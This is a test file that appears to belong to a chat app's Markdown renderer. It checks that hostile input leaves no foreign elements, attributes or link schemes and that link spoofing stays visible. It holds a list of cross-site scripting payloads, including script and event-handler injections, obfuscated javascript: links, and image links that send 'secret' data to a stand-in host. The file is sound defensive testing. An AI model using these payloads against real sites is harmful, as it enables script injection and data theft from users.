import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { Markdown } from '../../components/markdown/markdown';
import { parseMarkdown } from '../../components/markdown/parse';
import { spoofs } from '../e2e/hostile-markdown';
import { fc } from '../property-runs';
import { arbitraryMarkdown } from './arbitrary-markdown';
import { hostileFamilies } from './hostile-families';

const ownElements = new Set(
  'a blockquote br button circle code del div em h3 h4 h5 h6 hr input li ol p path pre rect section span strong sup svg table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const ownAttributes = new Set(
  'aria-expanded aria-hidden aria-label aria-pressed checked class cx cy d data-footnote data-not-words dir disabled fill height hidden href id r rel rx ry scope start stroke stroke-linecap stroke-linejoin stroke-width tabindex target title type viewBox width x xmlns y'.split(
    ' ',
  ),
);

/** What is in the markup that is not ours: elements, attributes, and links to other places than the web and mail. */
function foreignParts(html: string): string[] {
  const foreign: string[] = [];
  for (const [tag, element = '', attributes = ''] of html.matchAll(/<\/?([^\s>/]+)((?:"[^"]*"|[^">])*)>/g)) {
    if (!ownElements.has(element)) foreign.push(tag);
    for (const [attribute, name = '', value = ''] of attributes.matchAll(/([^\s=/]+)="([^"]*)"/g)) {
      if (!ownAttributes.has(name)) foreign.push(attribute);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|#)/.test(value)) foreign.push(attribute);
    }
  }
  return foreign;
}

function render(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} isStreaming={true} />);
}

const injections = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.test/a 1x">',
  '<iframe src="https://evil.test"></iframe>',
  '<svg onload=alert(1)><use href="https://evil.test#a"/></svg>',
  '<style>@import "https://evil.test"</style>',
  '<link rel=prefetch href=https://evil.test>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test">',
  '<form action=https://evil.test><input type=image src=https://evil.test></form>',
  '<video poster=https://evil.test/p autoplay><source src=https://evil.test/v></video>',
  '<object data="https://evil.test"></object><embed src=https://evil.test>',
  '<td background=https://evil.test>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><img src onerror=alert(1)></mtext></math>',
  '<!-- --><![CDATA[<img src=x>]]><?php echo 1 ?>',
  '![x](https://evil.test/?q=secret)',
  '![x][y]\n\n[y]: https://evil.test/?q=secret',
  '[![x](https://evil.test/a.png)](https://evil.test)',
  '[x](javascript:alert(1)) [x](data:text/html,<script>1</script>) [x](vbscript:x) [x](chrome-extension://a/b)',
  '[x](&#106;avascript:alert(1)) [x](java&Tab;script:alert(1)) <javascript:alert(1)>',
  '[x](https://a.test" onmouseover="alert(1)) [x](<https://a.test/"onclick="x>) [x](https://a.test "&quot; onclick=x")',
  '![" onerror="alert(1)](https://a.test/x)',
  '```"><img src=x>\n"><img src=x>\n```',
  '`<img src=x>` **<img src=x>** # <img src=x>',
  '|<img src=x>|\n|:-:|\n|<script>1</script>|',
];

const contexts: [name: string, place: (text: string) => string][] = [
  ['by itself', (text) => text],
  ['in a list', (text) => `- ${text.replaceAll('\n', '\n  ')}`],
  ['in a quote', (text) => `> ${text.replaceAll('\n', '\n> ')}`],
  ['in a heading', (text) => `# ${text}`],
];

test.each(contexts)('no injected text becomes an element or an attribute: %s', (_, place) => {
  for (const injection of injections) {
    for (let length = 1; length <= injection.length; length++) {
      expect(foreignParts(render(place(injection.slice(0, length))))).toEqual([]);
    }
  }
});

test('nor does any other text', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(arbitraryMarkdown, fc.constantFrom(...injections))), (texts) => {
      expect(foreignParts(render(texts.join('')))).toEqual([]);
    }),
  );
});

/** In characters: the sizes in which each family is drawn. */
const sizes = [1_000, 8_000];
/** In characters: how much is read as Markdown at once, at the most. */
const wholeSize = 64_000;

test.each(hostileFamilies)('text made to break the reader is shown: %s', (_, text) => {
  for (const size of sizes) {
    if (size / 8 < text.length) expect(foreignParts(render(text.slice(0, size)))).toEqual([]);
  }
  expect(() => parseMarkdown(text.slice(0, wholeSize))).not.toThrow();
});

/** Links as they are drawn, each with the words in it and those that stand beside it. */
function linksIn(html: string): { href: string; words: string; beside: string }[] {
  const links = html.matchAll(/<a [^>]*href="([^"]*)"[^>]*>(.*?)<\/a>(?:<span [^>]*>(.*?)<\/span>)?/gs);
  return Array.from(links, ([, href = '', words = '', beside = '']) => ({
    href,
    words: textIn(words),
    beside,
  }));
}

function textIn(html: string): string {
  return html.replace(/<[^>]*>/g, '');
}

test.each(spoofs('http://evil.test'))(
  'where a link leads stands beside words that say another place: %s',
  (text) => {
    const links = linksIn(render(text)).filter(({ href }) => !href.startsWith('#'));
    expect(links.length).toBeGreaterThan(0);
    for (const { href, words, beside } of links) {
      const { host, pathname } = new URL(href);
      if (/bank|bаnk|moc\.knab/.test(words)) expect(beside).toContain(host || pathname);
      expect(words).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
  },
);

test('a picture in a link speaks for itself, not for where the link leads', () => {
  const html = render('[![https://bank.test](https://bank.test/a.png)](https://evil.test/b)');
  expect(linksIn(html)).toEqual([
    { href: 'https://evil.test/b', words: expect.stringContaining('bank.test'), beside: ' (evil.test)' },
  ]);
  const sameSite = render('[![A cat](https://pictures.a.test/cat.png)](https://a.test/)');
  expect(linksIn(sameSite)).toMatchObject([{ beside: ' (a.test)' }]);
});

test('a text that is longer than any answer is Markdown as far as that, and then plain', () => {
  const html = render(`**start**\n\n${'a\n'.repeat(250_000)}**end**`);
  expect(html).toContain('start</strong>');
  expect(html).toContain('**end**');
});
